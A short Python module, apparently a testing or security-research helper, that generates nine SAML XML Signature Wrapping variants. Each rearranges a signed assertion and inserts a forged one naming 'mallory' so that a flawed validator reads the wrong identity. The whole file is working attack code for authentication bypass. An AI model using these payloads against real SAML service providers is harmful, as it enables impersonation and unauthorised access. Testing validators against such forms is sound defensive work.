"""Signature wrapping, variants 1 to 9: the signed assertion stands somewhere, and another one is to be read."""

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"


def _parts(xml: str) -> tuple[Any, Any, Any]:
    root = etree.fromstring(xml.encode())
    assertion = root.find(f"{SAML}Assertion")
    return root, assertion, assertion.find(f"{DS}Signature")


def _evil(assertion: Any, *, keeps_signature: bool = False, identifier: str = "_evil0000") -> Any:
    evil = deepcopy(assertion)
    evil.set("ID", identifier)
    evil.find(f"{SAML}Subject/{SAML}NameID").text = "mallory"
    if not keeps_signature:
        evil.remove(evil.find(f"{DS}Signature"))
    return evil


def _response_in_signature(xml: str) -> Any:
    root, assertion, signature = _parts(xml)
    original = deepcopy(root)
    assertion.find(f"{SAML}Subject/{SAML}NameID").text = "mallory"
    root.set("ID", "_evilresponse")
    signature.append(original)
    return root


def _response_beside_signature(xml: str) -> Any:
    root, assertion, signature = _parts(xml)
    original = deepcopy(root)
    assertion.find(f"{SAML}Subject/{SAML}NameID").text = "mallory"
    signature.addprevious(original)
    return root


def _evil_before(xml: str) -> Any:
    root, assertion, _ = _parts(xml)
    assertion.addprevious(_evil(assertion))
    return root


def _original_in_evil(xml: str) -> Any:
    root, assertion, _ = _parts(xml)
    evil = _evil(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def _signature_in_evil(xml: str) -> Any:
    root, assertion, signature = _parts(xml)
    evil = _evil(assertion)
    evil.insert(1, signature)
    assertion.addprevious(evil)
    return root


def _original_in_signature(xml: str) -> Any:
    root, assertion, signature = _parts(xml)
    evil = _evil(assertion)
    root.replace(assertion, evil)
    evil.insert(1, signature)
    signature.append(assertion)
    return root


def _evil_in_extensions(xml: str) -> Any:
    root, assertion, _ = _parts(xml)
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(_evil(assertion, identifier=assertion.get("ID")))
    root.insert(1, extensions)
    return root


def _original_in_object(xml: str) -> Any:
    root, assertion, signature = _parts(xml)
    evil = _evil(assertion)
    root.replace(assertion, evil)
    evil.insert(1, signature)
    etree.SubElement(signature, f"{DS}Object").append(assertion)
    return root


def _same_id(xml: str) -> Any:
    root, assertion, _ = _parts(xml)
    detail = etree.SubElement(root.find(f"{SAMLP}Status"), f"{SAMLP}StatusDetail")
    evil = _evil(assertion, keeps_signature=True, identifier=assertion.get("ID"))
    root.replace(assertion, evil)
    detail.append(assertion)
    return root


VARIANTS: dict[str, Callable[[str], Any]] = {
    "xsw1": _response_in_signature,
    "xsw2": _response_beside_signature,
    "xsw3": _evil_before,
    "xsw4": _original_in_evil,
    "xsw5": _signature_in_evil,
    "xsw6": _original_in_signature,
    "xsw7": _evil_in_extensions,
    "xsw8": _original_in_object,
    "xsw9": _same_id,
}


def wrapped(variant: str, xml: str) -> str:
    """The response with the signature wrapped."""
    return str(etree.tostring(VARIANTS[variant](xml)).decode())
